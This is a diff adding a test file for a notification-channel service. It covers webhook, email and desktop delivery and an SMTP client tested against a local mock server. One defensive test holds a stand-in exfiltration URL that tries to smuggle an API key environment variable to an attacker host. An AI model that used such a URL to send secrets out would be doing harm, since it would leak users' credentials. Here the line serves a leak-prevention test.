@@ -0,0 +1,282 @@
+import { describe, it, expect, vi, beforeEach, afterEach } from 'vitest';
+import net from 'net';
+import type { Notification, NotificationChannel } from '@automaker/types';
+import { NotificationChannelService } from '@/services/notification-channel-service.js';
+import { sendMail } from '@/services/notification-channels/smtp-client.js';
+import { renderNotification } from '@/services/notification-channels/templates.js';
+import { formatChatWebhook } from '@/services/notification-channels/webhook-formatters.js';
+import type { SettingsService } from '@/services/settings-service.js';
+import { createEventEmitter } from '@/lib/events.js';
+
+const notification: Notification = {
+  id: 'n1',
+  type: 'feature_failed',
+  title: 'Feature Failed',
+  message: '"Fix login" failed: tests did not pass',
+  createdAt: '2026-01-01T00:00:00.000Z',
+  read: false,
+  dismissed: false,
+  featureId: 'f1',
+  projectPath: '/work/my-app',
+};
+
+describe('notification-channel-service.ts', () => {
+  let channels: NotificationChannel[];
+  let settingsService: SettingsService;
+  let fetchMock: ReturnType<typeof vi.fn>;
+  let sendMailMock: ReturnType<typeof vi.fn>;
+
+  beforeEach(() => {
+    channels = [];
+    settingsService = {
+      getGlobalSettings: vi.fn(async () => ({ notificationChannels: channels })),
+    } as unknown as SettingsService;
+    fetchMock = vi.fn(async () => new Response('ok'));
+    sendMailMock = vi.fn(async () => undefined);
+  });
+
+  const createService = (events = createEventEmitter()) =>
+    new NotificationChannelService(events, settingsService, {
+      fetch: fetchMock as unknown as typeof fetch,
+      sendMail: sendMailMock,
+      env: { AUTOMAKER_NOTIFY_SMTP_PASSWORD: 'secret' },
+    });
+
+  it('routes notifications by type and skips disabled channels', async () => {
+    channels = [
+      { id: 'all', type: 'webhook', format: 'slack', url: 'https://hooks/all', enabled: true },
+      {
+        id: 'merged-only',
+        type: 'webhook',
+        format: 'slack',
+        url: 'https://hooks/merged',
+        enabled: true,
+        types: ['pr_merged'],
+      },
+      { id: 'off', type: 'webhook', format: 'slack', url: 'https://hooks/off', enabled: false },
+    ];
+
+    await createService().deliver(notification);
+
+    expect(fetchMock).toHaveBeenCalledTimes(1);
+    expect(fetchMock.mock.calls[0][0]).toBe('https://hooks/all');
+  });
+
+  it('emits desktop notifications with the channel template', async () => {
+    const events = createEventEmitter();
+    const emitted: unknown[] = [];
+    events.subscribe((type, payload) => {
+      if (type === 'notification:desktop') emitted.push(payload);
+    });
+    channels = [
+      {
+        id: 'desktop',
+        type: 'desktop',
+        enabled: true,
+        template: { title: '[{{projectName}}] {{typeLabel}}', body: '{{message}}' },
+      },
+    ];
+
+    await createService(events).deliver(notification);
+
+    expect(emitted).toEqual([
+      {
+        channelId: 'desktop',
+        title: '[my-app] Feature failed',
+        body: '"Fix login" failed: tests did not pass',
+        notification,
+      },
+    ]);
+  });
+
+  it('sends email with the password expanded from the environment', async () => {
+    channels = [
+      {
+        id: 'mail',
+        type: 'email',
+        enabled: true,
+        smtp: {
+          host: 'smtp.test',
+          port: 587,
+          username: 'bot',
+          password: '${AUTOMAKER_NOTIFY_SMTP_PASSWORD}',
+        },
+        from: 'Automaker <bot@test.dev>',
+        to: ['dev@test.dev', ' '],
+      },
+    ];
+
+    await createService().deliver(notification);
+
+    expect(sendMailMock).toHaveBeenCalledWith(
+      { host: 'smtp.test', port: 587, username: 'bot', password: 'secret' },
+      {
+        from: 'Automaker <bot@test.dev>',
+        to: ['dev@test.dev'],
+        subject: 'Feature Failed',
+        text: '"Fix login" failed: tests did not pass\n\nProject: my-app',
+      }
+    );
+  });
+
+  it('does not expand other environment variables into webhook URLs', async () => {
+    channels = [
+      {
+        id: 'leak',
+        type: 'webhook',
+        format: 'discord',
+        url: 'https://attacker.test/?key=${ANTHROPIC_API_KEY}',
+        enabled: true,
+      },
+    ];
+
+    await expect(createService().deliver(notification)).resolves.toBeUndefined();
+    expect(fetchMock).not.toHaveBeenCalled();
+  });
+
+  it('keeps delivering when one channel fails', async () => {
+    fetchMock.mockResolvedValueOnce(new Response('nope', { status: 500 }));
+    channels = [
+      { id: 'a', type: 'webhook', format: 'discord', url: 'https://hooks/a', enabled: true },
+      { id: 'b', type: 'webhook', format: 'teams', url: 'https://hooks/b', enabled: true },
+    ];
+
+    await expect(createService().deliver(notification)).resolves.toBeUndefined();
+    expect(fetchMock).toHaveBeenCalledTimes(2);
+  });
+
+  it('reports failures when testing a channel', async () => {
+    fetchMock.mockResolvedValueOnce(new Response('invalid_token', { status: 403 }));
+
+    await expect(
+      createService().testChannel({
+        id: 'a',
+        type: 'webhook',
+        format: 'slack',
+        url: 'https://hooks/a',
+        enabled: true,
+      })
+    ).rejects.toThrow('Webhook returned HTTP 403: invalid_token');
+  });
+
+  describe('webhook formats', () => {
+    const rendered = renderNotification(notification);
+
+    it('builds a Slack attachment with blocks', () => {
+      const payload = formatChatWebhook('slack', rendered, notification) as {
+        text: string;
+        attachments: { color: string; blocks: { type: string }[] }[];
+      };
+
+      expect(payload.text).toBe('Feature Failed');
+      expect(payload.attachments[0].color).toBe('#dc2626');
+      expect(payload.attachments[0].blocks.map((block) => block.type)).toEqual([
+        'header',
+        'section',
+        'context',
+      ]);
+    });
+
+    it('builds a Discord embed', () => {
+      expect(formatChatWebhook('discord', rendered, notification)).toEqual({
+        embeds: [
+          {
+            title: 'Feature Failed',
+            description: rendered.body,
+            color: 0xdc2626,
+            footer: { text: 'Feature failed · my-app' },
+            timestamp: notification.createdAt,
+          },
+        ],
+      });
+    });
+
+    it('builds a Teams message card', () => {
+      expect(formatChatWebhook('teams', rendered, notification)).toMatchObject({
+        '@type': 'MessageCard',
+        themeColor: 'dc2626',
+        title: 'Feature Failed',
+        text: '"Fix login" failed: tests did not pass\n\nProject: my-app',
+      });
+    });
+  });
+
+  describe('smtp client', () => {
+    let server: net.Server;
+    let received: string[];
+
+    beforeEach(async () => {
+      received = [];
+      server = net.createServer((socket) => {
+        let inData = false;
+        let buffer = '';
+        socket.write('220 test ESMTP\r\n');
+        socket.on('data', (chunk) => {
+          buffer += chunk.toString();
+          let index: number;
+          while ((index = buffer.indexOf('\r\n')) !== -1) {
+            const line = buffer.slice(0, index);
+            buffer = buffer.slice(index + 2);
+            received.push(line);
+            if (inData) {
+              if (line === '.') {
+                inData = false;
+                socket.write('250 queued\r\n');
+              }
+            } else if (line.startsWith('EHLO')) {
+              socket.write('250-test\r\n250 AUTH PLAIN\r\n');
+            } else if (line.startsWith('AUTH')) {
+              socket.write('235 ok\r\n');
+            } else if (line === 'DATA') {
+              inData = true;
+              socket.write('354 go ahead\r\n');
+            } else if (line === 'QUIT') {
+              socket.end('221 bye\r\n');
+            } else {
+              socket.write('250 ok\r\n');
+            }
+          }
+        });
+      });
+      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    });
+
+    afterEach(async () => {
+      await new Promise<void>((resolve) => server.close(() => resolve()));
+    });
+
+    it('authenticates and sends the message', async () => {
+      const { port } = server.address() as net.AddressInfo;
+
+      await sendMail(
+        { host: '127.0.0.1', port, username: 'bot', password: 'pw', allowInsecureAuth: true },
+        {
+          from: 'Automaker <bot@test.dev>',
+          to: ['dev@test.dev'],
+          subject: 'Hello',
+          text: 'Line one\n.starts with a dot',
+        }
+      );
+
+      expect(received).toContain(`AUTH PLAIN ${Buffer.from('\0bot\0pw').toString('base64')}`);
+      expect(received).toContain('MAIL FROM:<bot@test.dev>');
+      expect(received).toContain('RCPT TO:<dev@test.dev>');
+      expect(received).toContain('Subject: Hello');
+      expect(received).toContain('..starts with a dot');
+      expect(received.at(-1)).toBe('QUIT');
+    });
+
+    it('does not send credentials unencrypted unless allowed', async () => {
+      const { port } = server.address() as net.AddressInfo;
+
+      await expect(
+        sendMail(
+          { host: '127.0.0.1', port, username: 'bot', password: 'pw' },
+          { from: 'bot@test.dev', to: ['dev@test.dev'], subject: 'Hello', text: 'Hi' }
+        )
+      ).rejects.toThrow('refusing to send the password unencrypted');
+
+      expect(received.some((line) => line.startsWith('AUTH'))).toBe(false);
+    });
+  });
+});